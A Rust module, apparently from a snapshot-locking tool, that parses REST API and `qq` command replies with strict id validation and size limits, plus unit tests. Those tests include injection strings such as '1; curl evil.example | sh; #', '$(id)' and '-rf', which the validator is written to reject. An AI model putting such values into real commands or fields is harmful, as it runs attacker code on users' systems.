//! Pure parsers of replies from the REST API, and of what `qq` prints on stdout. Unknown fields are
//! ignored.

use std::fmt;

use serde::{
    Deserialize, Deserializer,
    de::{DeserializeOwned, Visitor},
};

use super::{NewKey, Replacement, Snapshot, StoredKey, Usage, call::Call};
use crate::text::size;

pub type Parsed<T> = Result<T, NotAReply>;

/// A reply other than the expected one.
#[derive(Debug)]
pub enum NotAReply {
    Wrong(Wrong),
    /// The text says what is too large.
    TooLarge(String),
}

#[derive(Debug, thiserror::Error)]
#[error("{expected}{}", .why.as_ref().map(|why| format!(" ({why})")).unwrap_or_default())]
pub struct Wrong {
    expected: &'static str,
    /// What is wrong with the reply, if it is JSON.
    why: Option<String>,
}

fn wrong<T>(expected: &'static str, why: Option<String>) -> Parsed<T> {
    Err(NotAReply::Wrong(Wrong { expected, why }))
}

/// The maximum size of a reply: no cluster may exhaust the memory of this machine.
#[derive(Clone, Copy, Debug)]
pub struct Limit {
    what: &'static str,
    pub bytes: usize,
    /// The maximum number of entries in a list.
    entries: usize,
}

/// The maximum length of a text in a reply, in bytes.
const TEXT_LIMIT: usize = 64 << 10;

/// How much of another program's message is shown, in characters.
const WORDS_LIMIT: usize = 2_000;

impl Limit {
    /// An entry of the key list has about 300 bytes, and a usage 80; `qq` prints about 500 bytes for a
    /// snapshot. A cluster has at most 40,000 snapshots.
    pub fn of(call: Call<'_>) -> Self {
        let (what, bytes, entries) = match call {
            Call::Keys => ("the key list", 8 << 20, 20_000),
            Call::KeyUsage(_) => ("the list of what a key protects", 4 << 20, 50_000),
            Call::UnlockedSnapshots => ("the list of snapshots", 32 << 20, 100_000),
            _ => ("the reply", 256 << 10, 1),
        };
        Self {
            what,
            bytes,
            entries,
        }
    }

    /// The message for a reply with more bytes.
    pub fn exceeded(self) -> String {
        format!("{} is larger than {}", self.what, size(self.bytes))
    }

    /// # Errors
    /// When a list has more entries.
    pub fn check<T>(self, list: &[T]) -> Result<(), String> {
        if list.len() <= self.entries {
            Ok(())
        } else {
            Err(format!(
                "{} has more than {} entries",
                self.what, self.entries
            ))
        }
    }
}

/// A list, or a page of it.
pub struct Page<T> {
    pub entries: Vec<T>,
    /// The path or URL of the next page.
    pub next: Option<String>,
}

#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct Entries<T> {
    entries: Vec<T>,
    #[serde(default)]
    paging: Paging,
}

#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct Usages {
    usages: Vec<Usage>,
    #[serde(default)]
    paging: Paging,
}

/// The usages in 6.1.0.x.
#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct UsagesByKind {
    snapshots: Vec<Id>,
    snapshot_policies: Vec<Id>,
}

/// Empty on the last page.
#[derive(Default, Deserialize)]
#[serde(expecting = "an object")]
struct Paging {
    #[serde(default)]
    next: Option<String>,
}

/// A usage whose id is not checked yet.
#[derive(Deserialize)]
#[serde(expecting = "an object")]
pub struct AnyUsage {
    #[serde(rename = "type")]
    kind: String,
    id: TextOrNumber,
}

impl TryFrom<AnyUsage> for Usage {
    type Error = InvalidId;

    fn try_from(AnyUsage { kind, id }: AnyUsage) -> Result<Self, InvalidId> {
        let id = match (kind.as_str(), id) {
            ("snapshot" | "snapshot_policy", id) => Id::try_from(id)?.0,
            // A replication target has a UUID; kinds that a later version adds may have anything.
            (_, TextOrNumber(text)) if is_word(&text) => text,
            _ => return Err(InvalidId),
        };
        Ok(Self { kind, id })
    }
}

#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct Challenge {
    challenge: String,
}

/// The part of a snapshot's status that shows whether it is locked.
#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct Status {
    id: u64,
    #[serde(rename = "lock_key", deserialize_with = "is_id")]
    is_locked: bool,
}

/// An error of the REST API.
#[derive(Deserialize)]
#[serde(expecting = "an object")]
struct ApiError {
    error_class: String,
    #[serde(default)]
    description: String,
    inner: Option<Box<ApiError>>,
}

/// A string, or a number as a string.
struct TextOrNumber(String);

impl<'de> Deserialize<'de> for TextOrNumber {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Either;

        impl Visitor<'_> for Either {
            type Value = TextOrNumber;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("text or a number")
            }

            fn visit_str<E>(self, text: &str) -> Result<TextOrNumber, E> {
                Ok(TextOrNumber(text.to_owned()))
            }

            fn visit_u64<E>(self, number: u64) -> Result<TextOrNumber, E> {
                Ok(TextOrNumber(number.to_string()))
            }
        }

        deserializer.deserialize_any(Either)
    }
}

/// The id of a key, a snapshot, or a policy: digits, as a string or a number. Ids go into URLs and into
/// commands that users copy, so nothing else is accepted.
#[derive(Deserialize)]
#[serde(try_from = "TextOrNumber")]
struct Id(String);

/// The number of digits in a 64-bit number.
const LONGEST_ID: usize = 20;

/// More than twice the length of a UUID.
const LONGEST_WORD: usize = 80;

/// The message leaves out the id itself.
#[derive(Debug, thiserror::Error)]
#[error("invalid id")]
pub struct InvalidId;

impl TryFrom<TextOrNumber> for Id {
    type Error = InvalidId;

    fn try_from(TextOrNumber(text): TextOrNumber) -> Result<Self, InvalidId> {
        let is_short = (1..=LONGEST_ID).contains(&text.len());
        if is_short && text.bytes().all(|b| b.is_ascii_digit()) {
            Ok(Self(text))
        } else {
            Err(InvalidId)
        }
    }
}

fn is_word(text: &str) -> bool {
    let allowed = |b: u8| b.is_ascii_alphanumeric() || b"-._".contains(&b);
    (1..=LONGEST_WORD).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(allowed)
}

pub fn id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    Ok(Id::deserialize(deserializer)?.0)
}

pub fn optional_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    Ok(Option::<Id>::deserialize(deserializer)?.map(|id| id.0))
}

/// Keeps no ids: a list may have a million.
fn is_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<bool, D::Error> {
    Ok(Option::<Id>::deserialize(deserializer)?.is_some())
}

pub fn or_empty<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    Ok(Option::deserialize(deserializer)?.unwrap_or_default())
}

fn json<T: DeserializeOwned>(reply: &[u8], expected: &'static str) -> Parsed<T> {
    serde_json::from_slice(reply).or_else(|error| {
        let why = error.is_data().then(|| shortened(&error.to_string()));
        wrong(expected, why)
    })
}

/// The beginning of another program's message.
pub fn shortened(words: &str) -> String {
    match words.char_indices().nth(WORDS_LIMIT) {
        Some((end, _)) => format!("{}…", &words[..end]),
        None => words.to_owned(),
    }
}

/// # Errors
/// When a text is too long.
fn check_texts(texts: &[&str]) -> Parsed<()> {
    if texts.iter().all(|text| text.len() <= TEXT_LIMIT) {
        Ok(())
    } else {
        Err(NotAReply::TooLarge(format!(
            "a text in the reply is longer than {}",
            size(TEXT_LIMIT)
        )))
    }
}

fn check_key(key: &StoredKey) -> Parsed<()> {
    check_texts(&[&key.id, &key.name, &key.comment, &key.public_key])
}

fn page<T>(entries: Vec<T>, paging: Paging, check: impl Fn(&T) -> Parsed<()>) -> Parsed<Page<T>> {
    entries.iter().try_for_each(check)?;
    let next = paging.next.filter(|next| !next.is_empty());
    Ok(Page { entries, next })
}

/// `fs_security_list_keys --json`, `GET /v1/file-system/security/keys/`.
pub fn keys(reply: &[u8]) -> Parsed<Page<StoredKey>> {
    let Entries { entries, paging } = json(reply, "a list of keys in JSON")?;
    page(entries, paging, check_key)
}

/// `GET /v1/file-system/security/keys/{ref}/usages`.
pub fn usages(body: &[u8]) -> Parsed<Page<Usage>> {
    usages_page(json(body, USAGES_IN_JSON)?)
}

/// `fs_security_get_key_usage --json`: a list, or in 6.1.0.x an object by kind.
pub fn usages_of_qq(stdout: &[u8]) -> Parsed<Page<Usage>> {
    let usages = if !stdout.trim_ascii_start().starts_with(b"{") {
        json(stdout, USAGES_IN_JSON)?
    } else {
        let reply: UsagesByKind = json(stdout, USAGES_IN_JSON)?;
        let usage = |kind: &str, Id(id)| Usage {
            kind: kind.to_owned(),
            id,
        };
        let snapshots = reply.snapshots.into_iter();
        let policies = reply.snapshot_policies.into_iter();
        snapshots
            .map(|id| usage("snapshot", id))
            .chain(policies.map(|id| usage("snapshot_policy", id)))
            .collect()
    };
    let paging = Paging::default();
    usages_page(Usages { usages, paging })
}

const USAGES_IN_JSON: &str = "a list of usages in JSON";

fn usages_page(Usages { usages, paging }: Usages) -> Parsed<Page<Usage>> {
    page(usages, paging, |usage| {
        check_texts(&[&usage.kind, &usage.id])
    })
}

/// `snapshot_list_statuses`, `GET /v4/snapshots/status/`: the ids of those that are not locked.
pub fn unlocked(reply: &[u8]) -> Parsed<Page<u64>> {
    let Entries { entries, paging } = json(reply, "a list of snapshots in JSON")?;
    let Page { entries, next } = page(entries, paging, |_: &Status| Ok(()))?;
    let unlocked = entries.into_iter().filter(|status| !status.is_locked);
    let entries = unlocked.map(|status| status.id).collect();
    Ok(Page { entries, next })
}

const KEY: &str = "the key in JSON";

/// `fs_security_add_key --json`. A reply about another key is rejected.
pub fn added_key(reply: &[u8], key: &NewKey<'_>) -> Parsed<()> {
    let stored = stored_key(reply)?;
    expect_about(stored.name == key.name && stored.holds(key.public_key), KEY)
}

/// `fs_security_replace_key --json`. A reply about another key is rejected.
pub fn replaced_key(reply: &[u8], key_id: &str, replacement: &Replacement<'_>) -> Parsed<()> {
    let stored = stored_key(reply)?;
    expect_about(
        stored.id == key_id && stored.holds(replacement.new_key),
        KEY,
    )
}

fn stored_key(reply: &[u8]) -> Parsed<StoredKey> {
    let key = json(reply, KEY)?;
    check_key(&key)?;
    Ok(key)
}

/// Replies can be shifted on a connection, and proxies can mix them up.
fn expect_about(is_about: bool, expected: &'static str) -> Parsed<()> {
    if is_about {
        Ok(())
    } else {
        wrong(expected, Some("it is about another object".to_owned()))
    }
}

/// `fs_security_get_key_replace_challenge`, `snapshot_get_unlock_challenge`.
pub fn challenge(reply: &[u8]) -> Parsed<String> {
    let expected = "a challenge in JSON";
    let Challenge { challenge } = json(reply, expected)?;
    check_texts(&[&challenge])?;
    if challenge.is_empty() {
        wrong(expected, None)
    } else {
        Ok(challenge)
    }
}

/// `snapshot_get_status`. A reply about another snapshot is rejected.
pub fn snapshot(reply: &[u8], id: u64) -> Parsed<Snapshot> {
    let expected = "the snapshot's status in JSON";
    let snapshot: Snapshot = json(reply, expected)?;
    expect_about(snapshot.id == id, expected)?;
    check_texts(&snapshot.texts())?;
    Ok(snapshot)
}

/// `POST …/lock`, `POST …/unlock`: an empty body, `null`, or `{}`.
pub fn nothing(body: &[u8]) -> Parsed<()> {
    use serde_json::Value;
    let is_nothing = match body.trim_ascii() {
        b"" => true,
        body => match serde_json::from_slice(body) {
            Ok(Value::Null) => true,
            Ok(Value::Object(fields)) => fields.is_empty(),
            _ => false,
        },
    };
    if is_nothing {
        Ok(())
    } else {
        wrong("an empty reply", None)
    }
}

/// `snapshot_unlock_snapshot`, `snapshot_lock_snapshot`: a line that begins with a sentence; in 6.1.0.x
/// the empty reply of the REST API, `null`.
pub fn done_by_qq(stdout: &[u8], call: Call<'_>) -> Parsed<()> {
    let (sentence, expected) = match call {
        Call::Lock(id, _) => (
            format!("Snapshot {id} is locked "),
            "the sentence that it is locked",
        ),
        Call::Unlock(id, _) => (
            format!("Snapshot {id} is unlocked."),
            "the sentence that it is unlocked",
        ),
        _ => return nothing(stdout),
    };
    let text = String::from_utf8_lossy(stdout);
    if text.trim() == "null" || text.lines().any(|line| line.starts_with(&sentence)) {
        Ok(())
    } else {
        wrong(expected, None)
    }
}

/// An error of the REST API as `qq` prints it: `class: description`, followed by the same for an inner
/// error in parentheses. `None` for anything else.
pub fn api_error(body: &[u8]) -> Option<String> {
    fn words(error: ApiError) -> String {
        let outer = format!("{}: {}", error.error_class, error.description);
        match error.inner {
            Some(inner) => format!("{outer} ({})", words(*inner)),
            None => outer,
        }
    }
    let error = serde_json::from_slice(body).ok()?;
    Some(shortened(&words(error)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{keyfile::PrivateKey, public_key::PublicKey};

    fn said<T>(parsed: Parsed<T>) -> String {
        match parsed.err().unwrap() {
            NotAReply::Wrong(wrong) => wrong.to_string(),
            NotAReply::TooLarge(what) => what,
        }
    }

    #[test]
    fn challenge_is_byte_exact() {
        let stdout = br#"{"challenge": "a\"\\\n \ud83d\udd11 \u00e9 "}"#;
        assert_eq!(challenge(stdout).unwrap(), "a\"\\\n 🔑 é ");
        assert!(challenge(br#"{"challenge": ""}"#).is_err());
        assert!(challenge(br#"{"challenge": "a"#).is_err());
    }

    #[test]
    fn usages_parse_in_both_forms() {
        let parse = |stdout: &str| {
            let usages = usages_of_qq(stdout.as_bytes()).unwrap().entries;
            let usages = usages.into_iter().map(|usage| (usage.kind, usage.id));
            usages.collect::<Vec<_>>()
        };
        let of = |kind: &str, id: &str| (kind.to_owned(), id.to_owned());
        assert_eq!(
            parse(
                r#"[{"type": "snapshot", "id": "7"}, {"type": "replication_target", "id": "x"}]"#
            ),
            [of("snapshot", "7"), of("replication_target", "x")]
        );
        assert_eq!(
            parse(r#" {"snapshot_policies": ["3"], "snapshots": [7]}"#),
            [of("snapshot", "7"), of("snapshot_policy", "3")]
        );
    }

    #[test]
    fn sentence_of_qq_confirms_submission() {
        let signature = PrivateKey::generate().sign(b"text");
        for (stdout, unlocks, locks) in [
            ("Snapshot 7 is unlocked.\n", true, false),
            ("Snapshot 7 is locked with lock key 1.\n", false, true),
            ("null\n", true, true),
            ("", false, false),
            ("\n", false, false),
            ("Snapshot 77 is unlocked.\n", false, false),
            ("Snapshot 8 is locked with lock key 1.\n", false, false),
        ] {
            let done = |call| done_by_qq(stdout.as_bytes(), call).is_ok();
            assert_eq!(done(Call::Unlock(7, &signature)), unlocks, "{stdout}");
            assert_eq!(done(Call::Lock(7, "1")), locks, "{stdout}");
        }
    }

    #[test]
    fn reply_about_another_id_is_rejected() {
        let status = br#"{"id": 8, "lock_key": null}"#;
        assert!(snapshot(status, 8).is_ok());
        assert!(snapshot(status, 7).is_err());

        let key = PrivateKey::generate();
        let (public_key, signature) = (key.public_key(), key.sign(b"lock"));
        let body = |id: &str, name: &str, public_key: &PublicKey| {
            serde_json::json!({ "id": id, "name": name, "public_key": public_key.to_base64() })
                .to_string()
        };
        let new = NewKey {
            name: "lock",
            comment: "",
            public_key: &public_key,
            signature: &signature,
        };
        let replacement = Replacement {
            new_key: &public_key,
            old_signature: &signature,
            new_signature: &signature,
        };
        let other = PrivateKey::generate().public_key();
        let added = |body: String| added_key(body.as_bytes(), &new).is_ok();
        let replaced = |body: String| replaced_key(body.as_bytes(), "1", &replacement).is_ok();
        assert!(added(body("1", "lock", &public_key)));
        assert!(!added(body("1", "look", &public_key)));
        assert!(!added(body("1", "lock", &other)));
        assert!(replaced(body("1", "any", &public_key)));
        assert!(!replaced(body("2", "any", &public_key)));
        assert!(!replaced(body("1", "any", &other)));
    }

    #[test]
    fn lock_key_is_required() {
        let parse = |lock: &str| snapshot(format!(r#"{{"id": 7{lock}}}"#).as_bytes(), 7);
        let lock_key = |lock: &str| parse(lock).unwrap().lock_key;
        assert_eq!(lock_key(r#", "lock_key": "2""#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": 2"#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": null"#), None);
        assert!(parse("").is_err());
    }

    #[test]
    fn ids_are_digits() {
        let key = |id: &str| {
            stored_key(format!(r#"{{"id": {id}, "name": "a", "public_key": "b"}}"#).as_bytes())
        };
        let snapshot =
            |id: &str| snapshot(format!(r#"{{"id": 7, "lock_key": {id}}}"#).as_bytes(), 7);
        let usage = |kind: &str, id: &str| {
            usages_of_qq(format!(r#"[{{"type": "{kind}", "id": {id}}}]"#).as_bytes())
        };
        for id in ["\"1\"", "1", "\"18446744073709551615\""] {
            assert_eq!(key(id).unwrap().id, id.trim_matches('"'));
            assert!(snapshot(id).is_ok());
            assert!(usage("snapshot", id).is_ok());
        }
        for id in [
            "\"\"",
            "\"1; curl evil.example | sh; #\"",
            "\"$(id)\"",
            "\"-1\"",
            "\"+1\"",
            "\" 1\"",
            "\"1\\n\"",
            "\"\\u0661\"",
            "\"0x1\"",
            "\"../1\"",
            "\"\\u001b[2J\"",
            "\"111111111111111111111\"",
            "-1",
            "1.5",
            "true",
            "[]",
        ] {
            assert!(key(id).is_err(), "{id}");
            assert!(snapshot(id).is_err(), "{id}");
            assert!(usage("snapshot", id).is_err(), "{id}");
            assert!(usage("snapshot_policy", id).is_err(), "{id}");
        }
        assert_eq!(
            said(key("\"1; evil\"")),
            "the key in JSON (invalid id at line 1 column 16)"
        );
        assert!(usage("replication_target", "\"0a1b-2c3d\"").is_ok());
        for id in ["\"\"", "\"a b\"", "\"$(id)\"", "\"-rf\"", "\"a/b\""] {
            assert!(usage("replication_target", id).is_err(), "{id}");
        }
    }

    #[test]
    fn missing_field_is_named_and_unknown_one_ignored() {
        let key = br#"{"id": "1", "name": "a", "public_key": "b", "new": {"x": [1]}}"#;
        assert_eq!(stored_key(key).unwrap().name, "a");
        assert!(
            said(stored_key(br#"{"id": "1", "name": "a"}"#))
                .starts_with("the key in JSON (missing field `public_key`")
        );
        assert_eq!(said(stored_key(b"<html>")), "the key in JSON");
    }

    #[test]
    fn next_page_is_optional() {
        let next = |paging: &str| {
            let body = format!(r#"{{"usages": [{{"type": "snapshot", "id": 7}}]{paging}}}"#);
            usages(body.as_bytes()).unwrap().next
        };
        assert_eq!(next(""), None);
        assert_eq!(next(r#", "paging": {"next": ""}"#), None);
        assert_eq!(next(r#", "paging": {"next": null}"#), None);
        assert_eq!(
            next(r#", "paging": {"next": "/a?b"}"#).as_deref(),
            Some("/a?b")
        );
        assert!(usages(b"{}").is_err());
    }

    #[test]
    fn lock_reply_must_be_empty() {
        for done in [&b""[..], b" \r\n", b"null", b"{}"] {
            assert!(nothing(done).is_ok());
        }
        for wrong in [
            &b"{"[..],
            b"<html>",
            b"Unlocked.",
            b"[]",
            br#"{"error_class": "x"}"#,
        ] {
            assert!(nothing(wrong).is_err());
        }
    }

    #[test]
    fn api_error_reads_as_qq_prints_it() {
        let body = br#"{"module": "m", "error_class": "outer_error", "description": "Outer.",
            "stack": [], "user_visible": true,
            "inner": {"error_class": "inner_error", "description": "Inner."}}"#;
        assert_eq!(
            api_error(body).unwrap(),
            "outer_error: Outer. (inner_error: Inner.)"
        );
        assert_eq!(api_error(b"<html>"), None);
        assert_eq!(api_error(br#"{"error": "x"}"#), None);
    }
}
